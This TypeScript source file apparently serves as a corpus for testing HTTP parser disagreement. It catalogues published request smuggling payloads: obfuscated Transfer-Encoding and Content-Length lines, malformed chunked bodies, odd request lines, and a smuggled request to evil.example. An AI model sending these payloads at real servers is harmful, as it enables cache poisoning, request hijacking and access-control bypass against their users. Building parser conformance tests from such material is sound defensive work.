/**
 * Published ways to make two HTTP parsers disagree. Each entry has the idea of a publication, not its text; if a list
 * names a trick, that name is used here.
 *
 * - RFC 9112, sections 2.2, 3.2, 5.1, 5.2, 6.1, 6.3, 7.1 and 11.2: what a server must refuse or ignore
 * - Linhart, Klein, Heled, Orrin: HTTP Request Smuggling (2005)
 * - regilero: Hiding Wookiees in HTTP (2016)
 * - Kettle: HTTP Desync Attacks (2019), and the permutations of HTTP Request Smuggler
 * - Klein: HTTP Request Smuggling in 2020
 * - defparam: Smuggler, every byte around every part of a framing field
 * - Bishop Fox: h2c Smuggling (2020)
 * - Jabiyev and others: T-Reqs (2021); Kallus and others: The HTTP Garden (2024)
 * - Kettle: Browser-Powered Desync Attacks (2022); HTTP/1.1 Must Die (2025): CL.0, 0.CL, Expect
 * - Weikop: Funky Chunks (2025): TERM.EXT, EXT.TERM, TERM.SPILL, SPILL.TERM
 * - the parser of node: CVE-2022-32213, -32214, -32215, -35256, CVE-2023-30589, CVE-2024-22019, CVE-2024-27982
 */

/** Field lines that mean `chunked` to one parser and nothing, or something else, to another; each with its line end. */
export const CHUNKED_SPELLINGS: Readonly<Record<string, string>> = {
  vanilla: 'Transfer-Encoding: chunked\r\n',
  'lower case': 'transfer-encoding: chunked\r\n',
  'mixed case': 'tRANSFER-ENCODING: CHUNKED\r\n',
  nospace: 'Transfer-Encoding:chunked\r\n',
  'nameprefix, a space': ' Transfer-Encoding: chunked\r\n',
  'nameprefix, a tab': '\tTransfer-Encoding: chunked\r\n',
  'space before the colon': 'Transfer-Encoding : chunked\r\n',
  'tab before the colon': 'Transfer-Encoding\t: chunked\r\n',
  'NUL before the colon': 'Transfer-Encoding\0: chunked\r\n',
  'two colons': 'Transfer-Encoding:: chunked\r\n',
  'no colon': 'Transfer-Encoding chunked\r\n',
  'equals sign for the colon': 'Transfer-Encoding= chunked\r\n',
  underjoin: 'Transfer_Encoding: chunked\r\n',
  'space for the hyphen': 'Transfer Encoding: chunked\r\n',
  'slash for the hyphen': 'Transfer/Encoding: chunked\r\n',
  'backslash for the hyphen': 'Transfer\\Encoding: chunked\r\n',
  'two hyphens': 'Transfer--Encoding: chunked\r\n',
  'a longer name': 'X-Transfer-Encoding: chunked\r\n',
  contentEnc: 'Content-Encoding: chunked\r\n',
  'valueprefix, a tab': 'Transfer-Encoding:\tchunked\r\n',
  'valueprefix, spaces': 'Transfer-Encoding:   chunked\r\n',
  'valueprefix, a vertical tab': 'Transfer-Encoding: \x0bchunked\r\n',
  'valueprefix, a form feed': 'Transfer-Encoding: \x0cchunked\r\n',
  'valueprefix, NEL': 'Transfer-Encoding: \x85chunked\r\n',
  'valueprefix, NBSP': 'Transfer-Encoding: \xa0chunked\r\n',
  'valueprefix, a byte order mark': 'Transfer-Encoding: \xef\xbb\xbfchunked\r\n',
  'suffix, a space': 'Transfer-Encoding: chunked \r\n',
  'suffix, a tab': 'Transfer-Encoding: chunked\t\r\n',
  'suffix, a vertical tab': 'Transfer-Encoding: chunked\x0b\r\n',
  'suffix, NUL': 'Transfer-Encoding: chunked\0\r\n',
  'suffix, 0d': 'Transfer-Encoding: chunked\r\r\n',
  'suffix, 0xff': 'Transfer-Encoding: chunked\xff\r\n',
  quoted: 'Transfer-Encoding: "chunked"\r\n',
  aposed: "Transfer-Encoding: 'chunked'\r\n",
  bracketed: 'Transfer-Encoding: <chunked>\r\n',
  'with a parameter': 'Transfer-Encoding: chunked;q=0.5\r\n',
  'with a comment': 'Transfer-Encoding: chunked (really)\r\n',
  lazygrep: 'Transfer-Encoding: chunk\r\n',
  'letter too much': 'Transfer-Encoding: xchunked\r\n',
  'long s': 'Tran\xc5\xbffer-Encoding: chunked\r\n',
  commaCow: 'Transfer-Encoding: chunked, cow\r\n',
  cowComma: 'Transfer-Encoding: cow, chunked\r\n',
  'comma after': 'Transfer-Encoding: chunked,\r\n',
  'comma before': 'Transfer-Encoding: , chunked\r\n',
  'chunked twice in a list': 'Transfer-Encoding: chunked, chunked\r\n',
  'identity in a list': 'Transfer-Encoding: chunked, identity\r\n',
  'chunked last in a list': 'Transfer-Encoding: identity, chunked\r\n',
  identity: 'Transfer-Encoding: identity\r\n',
  empty: 'Transfer-Encoding:\r\n',
  dualchunk: 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
  revdualchunk: 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n',
  'chunked in two lines': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n',
  'cow in a second line': 'Transfer-Encoding: chunked\r\nTransfer-encoding: cow\r\n',
  linewrapped: 'Transfer-Encoding:\r\n chunked\r\n',
  tabwrap: 'Transfer-Encoding:\r\n\tchunked\r\n',
  'wrapped by a bare LF': 'Transfer-Encoding:\n chunked\r\n',
  'wrapped after the value': 'Transfer-Encoding: chunked\r\n , cow\r\n',
  'wrapped name': 'Transfer-\r\n Encoding: chunked\r\n',
  vertwrap: 'Transfer-Encoding:\r\n\x0bchunked\r\n',
  gareth: 'Transfer-Encoding\r\n : chunked\r\n',
  'badsetup, CR': 'X: y\rTransfer-Encoding: chunked\r\n',
  'badsetup, LF': 'X: y\nTransfer-Encoding: chunked\r\n',
  'badsetup, CR CR LF': 'X: y\r\r\nTransfer-Encoding: chunked\r\n',
  'badsetup, LF CR': 'X: y\n\rTransfer-Encoding: chunked\r\n',
  'ends with LF': 'Transfer-Encoding: chunked\n',
  'ends with CR': 'Transfer-Encoding: chunked\rX: y\r\n',
  spjunk: 'Transfer-Encoding x: chunked\r\n',
  'named by Connection': 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n',
  'named by Trailer': 'Trailer: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n',
  'as a TE field': 'TE: chunked\r\n',
};

/** Field lines for a body of `n` bytes, one per spelling of the number. */
export const LENGTH_SPELLINGS: Readonly<Record<string, (n: number) => string>> = {
  vanilla: (n) => `Content-Length: ${n}\r\n`,
  nospace: (n) => `Content-Length:${n}\r\n`,
  'leading zeros': (n) => `Content-Length: 000${n}\r\n`,
  plus: (n) => `Content-Length: +${n}\r\n`,
  minus: (n) => `Content-Length: -${n}\r\n`,
  hexadecimal: (n) => `Content-Length: 0x${n.toString(16)}\r\n`,
  octal: (n) => `Content-Length: 0o${n.toString(8)}\r\n`,
  'digits apart': (n) => `Content-Length: ${n} 0\r\n`,
  underscore: (n) => `Content-Length: 0_${n}\r\n`,
  decimal: (n) => `Content-Length: ${n}.0\r\n`,
  exponent: (n) => `Content-Length: ${n}e0\r\n`,
  'a list of two': (n) => `Content-Length: ${n}, ${n}\r\n`,
  'a list of two that differ': (n) => `Content-Length: ${n}, 0\r\n`,
  'a comma after': (n) => `Content-Length: ${n},\r\n`,
  'a semicolon after': (n) => `Content-Length: ${n};\r\n`,
  'letters after': (n) => `Content-Length: ${n}abc\r\n`,
  'NUL after': (n) => `Content-Length: ${n}\0\r\n`,
  'tab after': (n) => `Content-Length: ${n}\t\r\n`,
  'vertical tab before': (n) => `Content-Length: \x0b${n}\r\n`,
  'full-width digits': (n) => `Content-Length: \xef\xbc\x90${n}\r\n`,
  'superscript digits': (n) => `Content-Length: ${n}\xb2\r\n`,
  quoted: (n) => `Content-Length: "${n}"\r\n`,
  'over 32 bits': (n) => `Content-Length: ${2 ** 32 + n}\r\n`,
  'over 64 bits': (n) => `Content-Length: ${(2n ** 64n + BigInt(n)).toString()}\r\n`,
  empty: () => 'Content-Length:\r\n',
  twice: (n) => `Content-Length: ${n}\r\nContent-Length: ${n}\r\n`,
  'twice, 0 first': (n) => `Content-Length: 0\r\nContent-Length: ${n}\r\n`,
  'twice, 0 last': (n) => `Content-Length: ${n}\r\nContent-Length: 0\r\n`,
  'space before the colon': (n) => `Content-Length : ${n}\r\n`,
  nameprefix: (n) => ` Content-Length: ${n}\r\n`,
  'word before the colon': (n) => `Content-Length abcde: ${n}\r\n`,
  'no hyphen': (n) => `Content/Length: ${n}\r\n`,
  underjoin: (n) => `Content_Length: ${n}\r\n`,
  linewrapped: (n) => `Content-Length:\r\n ${n}\r\n`,
  'wrapped within the number': (n) => `Content-Length: ${n}\r\n 0\r\n`,
  'badsetup, CR': (n) => `X: y\rContent-Length: ${n}\r\n`,
  'badsetup, LF': (n) => `X: y\nContent-Length: ${n}\r\n`,
  'named by Connection': (n) => `Connection: Content-Length\r\nContent-Length: ${n}\r\n`,
};

/** Other field lines that make one server wait, switch, close or continue, and another one not. */
export const OTHER_LINES: Readonly<Record<string, string>> = {
  'Expect, vanilla': 'Expect: 100-continue\r\n',
  'Expect, obfuscated': 'Expect: y 100-continue\r\n',
  'Expect, wrapped': 'Expect:\r\n 100-continue\r\n',
  'Expect twice': 'Expect: 100-continue\r\nExpect: x\r\n',
  'Expect, another': 'Expect: 200-ok\r\n',
  h2c: 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n',
  'h2c not named by Connection': 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n',
  'a WebSocket of a wrong version':
    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 7\r\n',
  'Upgrade in two lines': 'Connection: x\r\nConnection: upgrade\r\nUpgrade: a\r\nUpgrade: b\r\n',
  'an early host': 'Host: b\r\n',
  'Host in a wrapped line': 'X: y\r\n Host: b\r\n',
  'close and keep-alive': 'Connection: close, keep-alive\r\n',
  'close by another name': 'Proxy-Connection: close\r\n',
  'a line end in a value': 'X: y\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n',
  'an override of the method': 'X-HTTP-Method-Override: HEAD\r\n',
  'an override of the target': 'X-Original-URL: /smuggled\r\n',
};

/** Chunked bodies, each with bytes that one parser takes for its end; `evil` is a request inside it. */
export const CHUNKED_BODIES: Readonly<Record<string, (evil: string) => string>> = {
  vanilla: (evil) => `0\r\n\r\n${evil}`,
  'evil in a chunk': (evil) => `${evil.length.toString(16)}\r\n${evil}\r\n0\r\n\r\n`,
  'TERM.EXT': (evil) => `2;\nxx\r\n${evil.length.toString(16)}\r\n0\r\n\r\n${evil}\r\n0\r\n\r\n`,
  'TERM.EXT, CR': (evil) => `2;a\rxx\r\n4c\r\n0\r\n\r\n${evil}\r\n0\r\n\r\n`,
  'EXT.TERM': (evil) => `5;a\n0\r\n\r\n${evil}0\r\n\r\n`,
  'EXT.TERM, a size without an extension': (evil) => `5\n0\r\n\r\n${evil}0\r\n\r\n`,
  'TERM.SPILL': (evil) => `5\r\nhelloX\n0\r\n\r\n${evil}0\r\n\r\n`,
  'SPILL.TERM': (evil) => `5\r\nhello0\r\n\r\n${evil}0\r\n\r\n`,
  'two bytes, whatever they are, after data': (evil) => `5\r\nhelloXX0\r\n\r\n${evil}`,
  'one byte after data': (evil) => `5\r\nhello\n0\r\n\r\n${evil}`,
  'extension in quotes over a line': (evil) => `5;a="\r\nhello\r\n0\r\n\r\n${evil}"\r\n0\r\n\r\n`,
  'extension without end': (evil) => `0;${'a'.repeat(17_000)}\r\n\r\n${evil}`,
  'size with 0x': (evil) => `0x0\r\n\r\n${evil}`,
  'size of 0 with a sign': (evil) => `-0\r\n\r\n${evil}`,
  'size with an underscore': (evil) => `0_5\r\nhello\r\n0\r\n\r\n${evil}`,
  'size that overflows 32 bits': (evil) => `100000000\r\n\r\n${evil}`,
  'size that overflows 64 bits': (evil) => `10000000000000000\r\n\r\n${evil}`,
  'size with a space after': (evil) => `0 \r\n\r\n${evil}`,
  'size with a space before': (evil) => ` 0\r\n\r\n${evil}`,
  'size with letters after': (evil) => `0g\r\n\r\n${evil}`,
  'size with NUL': (evil) => `0\0\r\n\r\n${evil}`,
  'no size': (evil) => `\r\n${evil}`,
  'last chunk with a bare LF': (evil) => `0\n\n${evil}`,
  'last chunk with CR alone': (evil) => `0\r\r${evil}`,
  'last chunk of many zeros': (evil) => `${'0'.repeat(15)}\r\n\r\n${evil}`,
  'trailer without a colon': (evil) => `0\r\n${evil}`,
  'trailer that frames': (evil) => `0\r\nContent-Length: 5\r\n\r\nhello${evil}`,
  'trailer of a coding': (evil) => `0\r\nTransfer-Encoding: chunked\r\n\r\n${evil}`,
  'trailer with a wrapped line': (evil) => `0\r\nX: y\r\n ${evil}`,
  'trailer with a bare LF': (evil) => `0\r\nX: y\n\r\n${evil}`,
  'cut off': () => '5\r\nhel',
};

/** Request lines that one server takes and another refuses, or reads as another request. */
export const START_LINES: Readonly<Record<string, string>> = {
  vanilla: 'POST / HTTP/1.1\r\n',
  'an empty line before': '\r\nPOST / HTTP/1.1\r\n',
  'a bare LF before': '\nPOST / HTTP/1.1\r\n',
  'HTTP/1.0': 'POST / HTTP/1.0\r\n',
  'HTTP/0.9': 'GET /\r\n',
  'HTTP/1.2': 'POST / HTTP/1.2\r\n',
  'HTTP/01.1': 'POST / HTTP/01.1\r\n',
  'HTTP/1.01': 'POST / HTTP/1.01\r\n',
  'a lower-case version': 'POST / http/1.1\r\n',
  'two spaces': 'POST  / HTTP/1.1\r\n',
  'a tab': 'POST\t/ HTTP/1.1\r\n',
  'a space after': 'POST / HTTP/1.1 \r\n',
  'a space in the target': 'POST / /smuggled HTTP/1.1\r\n',
  'another version in the target': 'POST / HTTP/1.1 HTTP/1.1\r\n',
  'a bare LF after': 'POST / HTTP/1.1\n',
  'a bare CR after': 'POST / HTTP/1.1\r',
  'another host in the target': 'POST http://b/ HTTP/1.1\r\n',
  'the same host in the target': 'POST http://a/ HTTP/1.1\r\n',
  'userinfo in the target': 'POST http://a@b/ HTTP/1.1\r\n',
  'a fragment': 'POST /#/smuggled HTTP/1.1\r\n',
  'GET with a body': 'GET / HTTP/1.1\r\n',
  'HEAD with a body': 'HEAD / HTTP/1.1\r\n',
  'OPTIONS of the server': 'OPTIONS * HTTP/1.1\r\n',
  CONNECT: 'CONNECT a:80 HTTP/1.1\r\n',
  'a method of another case': 'post / HTTP/1.1\r\n',
  'the preface of HTTP/2': 'PRI * HTTP/2.0\r\n',
};

/** A request that must not run: it is always part of a body, or follows a refused message. */
export const EVIL = 'GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n';

/** The places where Smuggler inserts a byte: each gap around and within the parts of a framing field. */
export function everyByte(field: 'Transfer-Encoding: chunked' | 'Content-Length: 5'): string[] {
  const colon = field.indexOf(':');
  const middle = colon + 4;
  const gaps = [0, colon, colon + 1, colon + 2, middle, field.length];
  const bytes = Array.from({ length: 256 }, (_, code) => String.fromCharCode(code));
  const within = gaps.flatMap((gap) => bytes.map((byte) => field.slice(0, gap) + byte + field.slice(gap)));
  return [...within, ...bytes.map((byte) => `X: y${byte}${field}`)].map((line) => `${line}\r\n`);
}
